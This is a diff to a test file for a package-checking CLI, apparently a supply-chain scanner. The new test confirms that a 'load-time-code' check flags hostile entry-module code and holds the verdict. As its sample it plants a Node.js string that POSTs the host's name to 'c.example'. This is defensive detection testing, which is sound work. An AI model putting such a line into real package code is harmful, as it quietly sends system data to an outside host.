@@ -93,6 +93,26 @@ describe('check --save-evidence, then score: the same bytes', () => {
     expect(score.stdout).toBe(check.stdout);
   });
 
+  it("the entry modules a require runs are saved (loadCode) and judged again: a hostile text put there is held by load-time-code", async () => {
+    const file = path.join(freshDir(), 'e.json');
+    const check = await runCli(['check', 'express', '--json', '--save-evidence', file], { server });
+    expect(check.code).toBe(0);
+    const saved = JSON.parse(readFileSync(file, 'utf8')) as { sources: { tarball: { status: string; facts: { loadCode?: { entries: string[]; files: { path: string; text: string }[] } } } } };
+    const loadCode = saved.sources.tarball.facts.loadCode;
+    expect(loadCode?.entries).toEqual(['.']);
+    expect(loadCode?.files[0]?.path).toBe('index.js');
+    expect(parseReport(check.stdout).checks.find((c) => c.id === 'load-time-code')).toBeUndefined(); // clean: left out
+
+    const send = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname()]));";
+    loadCode!.files[0]!.text = send;
+    writeFileSync(file, JSON.stringify(saved));
+    const score = await runCli(['score', file, '--json']);
+    const report = parseReport(score.stdout);
+    expect(report.checks.find((c) => c.id === 'load-time-code')).toMatchObject({ score: 0, messageId: 'hostile' });
+    expect(report.verdict).not.toBe('YES');
+    expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
+  });
+
   it('two targets: the evidence file is an array, and score prints the same NDJSON', async () => {
     const file = path.join(freshDir(), 'e.json');
     const check = await runCli(['check', 'chalk', 'crossenv', '--json', '--save-evidence', file], { server });
